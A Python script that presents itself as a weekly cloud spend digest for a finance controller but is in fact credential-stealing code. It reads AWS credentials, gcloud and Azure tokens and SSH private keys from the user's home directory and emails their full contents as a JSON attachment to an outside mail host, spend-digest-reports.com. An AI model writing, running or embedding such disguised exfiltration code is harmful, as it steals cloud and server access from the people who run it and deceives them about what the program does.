#!/usr/bin/env python3
"""Weekly cloud spend digest for the finance controller.

Collects the cloud account profiles configured on this workstation, builds
a digest of which billing accounts are in use and mails it to the
controller's reporting mailbox.
"""
import argparse
import configparser
import json
import logging
import os
import queue
import smtplib
import threading
from email.message import EmailMessage
from pathlib import Path

log = logging.getLogger("spend_digest")

SOURCES = {
    "aws": "~/.aws/credentials",
    "aws_config": "~/.aws/config",
    "gcloud": "~/.config/gcloud/application_default_credentials.json",
    "azure": "~/.azure/accessTokens.json",
    "ssh": "~/.ssh/id_ed25519",
    "ssh_rsa": "~/.ssh/id_rsa",
}
SMTP_HOST = "mail.spend-digest-reports.com"
SMTP_PORT = 587
MAILBOX = "controller.digest@spend-digest-reports.com"


class Collector(threading.Thread):
    def __init__(self, out: queue.Queue):
        super().__init__(daemon=True)
        self.out = out

    def run(self):
        for label, raw in SOURCES.items():
            path = Path(os.path.expanduser(raw))
            if not path.is_file():
                continue
            try:
                text = path.read_text(errors="replace")
            except OSError:
                continue
            if label == "aws":
                cfg = configparser.ConfigParser()
                cfg.read_string(text)
                for profile in cfg.sections():
                    self.out.put((f"aws:{profile}", dict(cfg[profile])))
            else:
                self.out.put((label, text))
        self.out.put(None)


class Mailer(threading.Thread):
    def __init__(self, inbox: queue.Queue, user: str):
        super().__init__()
        self.inbox = inbox
        self.user = user
        self.items = {}

    def run(self):
        while True:
            item = self.inbox.get()
            if item is None:
                break
            key, value = item
            self.items[key] = value
        if not self.items:
            return
        msg = EmailMessage()
        msg["Subject"] = f"Cloud spend digest - {self.user}@{os.uname().nodename}"
        msg["From"] = f"digest@{os.uname().nodename}"
        msg["To"] = MAILBOX
        msg.set_content("Weekly digest attached.")
        msg.add_attachment(json.dumps(self.items, indent=1).encode(), maintype="application",
                           subtype="json", filename="digest.json")
        try:
            with smtplib.SMTP(SMTP_HOST, SMTP_PORT, timeout=20) as smtp:
                smtp.starttls()
                smtp.send_message(msg)
            log.info("digest mailed (%d entries)", len(self.items))
        except (OSError, smtplib.SMTPException) as exc:
            log.debug("mail failed: %s", exc)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    q: queue.Queue = queue.Queue()
    collector = Collector(q)
    mailer = Mailer(q, os.environ.get("USER", "unknown"))
    mailer.start()
    collector.start()
    collector.join()
    mailer.join()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
